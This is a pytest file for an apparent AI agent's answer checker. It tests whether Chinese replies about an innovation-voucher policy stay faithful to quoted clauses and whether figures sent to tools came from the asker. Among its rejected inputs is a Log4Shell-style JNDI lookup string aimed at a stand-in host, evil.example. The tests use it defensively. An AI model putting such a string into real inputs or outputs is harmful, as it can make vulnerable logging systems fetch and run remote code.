"""Sentences beside their clauses: fair paraphrases stand, what is brought in from elsewhere falls."""

from __future__ import annotations

from datetime import date

import pytest

from agent.model.marks import tidied
from agent.model.premise import believed
from agent.model.reply import plain
from agent.model.said import unsaid
from agent.model.support import Support, unsupported

CLAUSE = "创新券支付额不超过同一合同实际金额的50%，不得转让、赠送，用券主体同期享受创新券补贴的项目不超过2项。"
AGAIN = "用券主体同期享受创新券补贴的项目不超过2项，已获得过市级财政资金支持的项目不再重复支持。"
LISTED = "有下列情形之一的，不予支持：（一）已获得市级资金的；（二）在惩戒期内的。"
QUARTER = "开放单位应在合同到期后1个月内提交兑现材料，逾期自动作废。"


@pytest.mark.parametrize(
    ("sentence", "quote"),
    [
        ("创新券最多付合同金额的50%。", CLAUSE),
        ("同一合同里，创新券支付额最多占一半，即50%。", CLAUSE),
        ("同一时期享受补贴的项目最多2项。", CLAUSE),
        ("创新券不能转让，也不能赠送。", CLAUSE),
        ("不可以。", CLAUSE),
        ("合同到期后1个月内要交兑现材料，逾期就作废了。", QUARTER),
        ("已获得过市级财政资金支持的项目，不再重复支持。", AGAIN),
        ("创新券支付比例最高为50%，不能超过同一合同实际金额的一半。", CLAUSE),
        ("不对，创新券最多抵合同实际金额的50%。", CLAUSE),
    ],
)
def test_a_fair_paraphrase_stands(sentence: str, quote: str) -> None:
    assert unsupported(sentence, Support([quote])) is None


@pytest.mark.parametrize(
    ("sentence", "code"),
    [
        ("创新券可以转让给关联企业。", "negation"),
        ("您可以赠送给合作伙伴，支付额不超过50%。", "negation"),
        ("请加微信 policy888 咨询创新券。", "foreign"),
        ("按照第三十九条，支付额不超过50%。", "clause_number"),
        ("祝您工作顺利，欢迎关注我们的公众账号。", "unsupported"),
        ("外省企业同样享受北京户口指标与住房优惠。", "unsupported"),
        ("政府倒贴您50%。", "unsupported"),
        ("支付额不超过50%，审核通过。", "unsupported"),
        ("创新券支付额是合同金额的三倍。", "unproved"),
        ("创新券支付额超过同一合同实际金额的50%。", "negation"),
        ("创新券支付额至少为合同实际金额的50%。", "negation"),
        ("<b>最多50%</b>。", "markup"),
        ("支付额见${jndi:ldap://evil.example/a}。", "markup"),
        ("支付额不超过50%，见http://evil.example/a。", "foreign"),
        ("支付额不超过50%，见//evil.example/a。", "foreign"),
    ],
)
def test_what_the_clause_does_not_say_falls(sentence: str, code: str) -> None:
    objection = unsupported(sentence, Support([CLAUSE]))
    assert objection is not None and objection.code == code


@pytest.mark.parametrize(
    ("sentence", "quote"),
    [
        ("合同到期后1个月内不用提交兑现材料。", QUARTER),
        ("无需提交兑现材料。", QUARTER),
        ("逾期不会自动作废。", QUARTER),
        ("逾期未作废。", QUARTER),
        ("已获得过市级财政资金支持的项目再重复支持。", AGAIN),
        ("已获得过市级财政资金支持的项目，可以再重复支持。", AGAIN),
        ("已获得市级资金的，可以申请。", LISTED),
    ],
)
def test_a_no_dropped_or_added_falls(sentence: str, quote: str) -> None:
    objection = unsupported(sentence, Support([quote]))
    assert objection is not None and objection.code == "negation"


def test_what_the_asker_says_supports_a_figure_of_theirs_and_no_statement() -> None:
    said = ["合同80万元，听说政府倒贴"]
    assert unsupported("合同80万元，创新券支付额不超过50%。", Support([CLAUSE], said=said)) is None
    assert unsupported("政府倒贴。", Support([CLAUSE], said=said)) is not None


@pytest.mark.parametrize(
    ("facts", "invented"),
    [
        ({"合同金额": "80万元", "资质": "国家高新技术企业"}, []),
        ({"合同金额": "800,000元"}, []),
        ({"合同金额": "八十万"}, []),
        ({"合同金额": "85万元"}, ["合同金额"]),
        ({"合同金额": ["80万元", "90万元"]}, ["合同金额"]),
        ({"职工总数": "30"}, []),
        ({"职工总数": "31人"}, ["职工总数"]),
        ({"领取日": "2026-07-01"}, []),
        ({"领取日": "2026年7月1日"}, []),
        ({"领取日": "2026-07-02"}, ["领取日"]),
        ({"领取日": "2019-07-01"}, ["领取日"]),
    ],
)
def test_figures_given_to_a_tool_are_the_askers(facts: dict[str, object], invented: list[str]) -> None:
    told = ["我们30人，国高新，合同80万", "7月1日领的券"]
    assert unsaid(facts, told, date(2026, 11, 20)) == invented


@pytest.mark.parametrize("written", ["[c1][c2]", "【c1】【c2】", "[c1, c2]", "（c1、c2）", "[c1，c2]"])
def test_marks_are_read_however_they_are_bracketed(written: str) -> None:
    assert tidied(f"支持。{written}") == "支持。[c1][c2]"


def test_dress_is_taken_off() -> None:
    assert plain("## 结论\n- **最高50万元**。\n- 按合同计。") == "结论最高50万元。按合同计。"


@pytest.mark.parametrize(
    ("text", "turned_down"),
    [
        ("创新券可以支付合同的100%。[1]", True),
        ("是的，用创新券支付。[1]", True),
        ("创新券不能支付100%，最多50%。[1]", False),
        ("合同80万元，用创新券最多支付50%。[1]", False),
        ("用创新券支付，最多50%。[1]", False),
    ],
)
def test_what_only_the_asker_says_is_not_granted(text: str, turned_down: bool) -> None:
    found = believed(text, ["合同80万元，创新券可以付100%吧"], [CLAUSE], eligible=False)
    assert [o.code for o in found] == (["premise"] if turned_down else [])
